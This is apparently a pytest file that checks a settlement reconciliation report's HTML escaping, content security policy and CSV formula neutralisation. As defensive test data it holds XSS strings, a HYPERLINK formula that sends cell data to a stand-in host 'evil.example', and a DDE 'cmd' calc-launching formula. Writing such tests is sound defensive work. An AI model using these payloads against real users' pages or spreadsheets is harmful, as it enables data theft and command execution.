"""Review report: self-contained HTML that escapes hostile rows, CSV that neutralises formulas."""

from __future__ import annotations

import csv
import html
import io
import re
from decimal import Decimal

import pytest

from airflow_provider_amznetsuite.domain.settlement import reconcile
from airflow_provider_amznetsuite.domain.settlement.report import neutralise_cell, render_csv, render_html
from tests.fixtures.settlement.gen import SUMMARY, SettlementCfg, render, row

D = Decimal
SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def hostile_result(lookup=None):
    rows = [
        row("other-transaction", "other-transaction", SCRIPT, D("-1.00"), sku=FORMULA),  # unmapped
        row("Order", "ItemPrice", "Principal", D("5.00"), order_id="111-1", sku=IMG),  # unmatched
        row("Order", "ItemPrice", "Principal", "=1+1", order_id="111-2", sku="@SUM(A1:A9)"),  # quarantined
        row("Order", "ItemFees", "Commission", D("-0.50"), order_id="111-1", sku="+cmd|' /C calc'!A0"),
        row("other-transaction", "other-transaction", "  -2+3", D("0.00"), sku="  =1+2"),  # unmapped, leading blanks
    ]
    data = render(dict(SUMMARY, **{"total-amount": D("3.50")}), rows)
    return reconcile(data, marketplace=SettlementCfg(), offline=lookup is None, lookup=lookup,
                     currency_ids={"GBP": "2"}, subsidiary="2")


def test_html_escapes_everything_and_is_self_contained(tmp_path):
    r = hostile_result(lookup=lambda f, v: {})
    assert r.buckets == {"mapped": 2, "unmapped": 2, "quarantined": 1, "matched": 0, "unmatched": 2}
    paths = r.write_report(str(tmp_path))
    assert paths.html.name == "settlement_12345678901.html"
    assert paths.csv.name == "settlement_12345678901_exceptions.csv"
    page = paths.html.read_text(encoding="utf-8")
    assert "<script" not in page.lower()
    assert "<img" not in page.lower()
    assert html.escape(SCRIPT, quote=True) in page
    assert html.escape(IMG, quote=True) in page
    assert "default-src 'none'" in page  # CSP: no scripts, no external fetches even if something slipped
    assert not re.search(r"""<[^>]*\s(src|href|on[a-z]+)\s*=""", page, re.I)  # no tag loads or runs anything
    assert "<link" not in page and "@import" not in page
    assert "<svg" in page and page.count("<rect") == len(r.by_account)
    for ex in r.exceptions:  # every exception line, with its line number
        assert f'<td class="num">{ex.line}</td>' in page
    assert "Exceptions (5)" in page


def test_csv_neutralises_formulas_but_keeps_numbers(tmp_path):
    r = hostile_result(lookup=lambda f, v: {})
    paths = r.write_report(str(tmp_path))
    raw = paths.csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for spreadsheets
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = table[0], table[1:]
    assert header[:3] == ["line", "bucket", "reason"]
    col = {name: i for i, name in enumerate(header)}
    by_line = {int(rw[col["line"]]): rw for rw in body}
    assert sorted(by_line) == [3, 4, 5, 6, 7]
    assert by_line[3][col["sku"]] == "'" + FORMULA
    assert by_line[4][col["sku"]] == IMG  # not a formula: untouched (CSV is not HTML)
    assert by_line[5][col["sku"]] == "'@SUM(A1:A9)"
    assert by_line[5][col["amount"]] == "'=1+1"  # quarantined: the raw text, neutralised
    assert by_line[6][col["sku"]] == "'+cmd|' /C calc'!A0"
    assert by_line[7][col["sku"]] == "'=1+2"  # the parser strips the SKU; still neutralised
    assert by_line[7][col["amount_description"]] == "'-2+3"  # stripped by the parser, still neutralised
    assert by_line[3][col["amount"]] == "-1.00"  # numbers stay numbers
    for rw in body:
        for cell in rw:
            assert not cell.lstrip(" ").startswith(("=", "+", "@")) or cell.startswith("'")
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (" =x", "' =x"), ("-12.50", "-12.50"), ("12", "12"), ("", ""), ("plain", "plain"), (None, ""),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_offline_report_and_clean_report(tmp_path):
    r = hostile_result()
    page = render_html(r)
    assert "unmatched" not in page.split("<h2>Buckets</h2>")[1].split("</table>")[0]  # no NetSuite offline
    assert "NOT balanced" not in page and "quarantined" in page
    text = render_csv(r.exceptions)
    assert text.splitlines()[0].startswith("line,bucket,reason")
    assert len(text.splitlines()) == 1 + 3  # 2 unmapped + 1 quarantined


def test_unbalanced_banner():
    data = render(dict(SUMMARY, **{"total-amount": D("9.99")}), [row("Order", "ItemPrice", "Principal", D("5.00"), order_id="1")])
    page = render_html(reconcile(data, marketplace=SettlementCfg(), offline=True))
    assert "NOT balanced" in page and "difference -4.99" in page
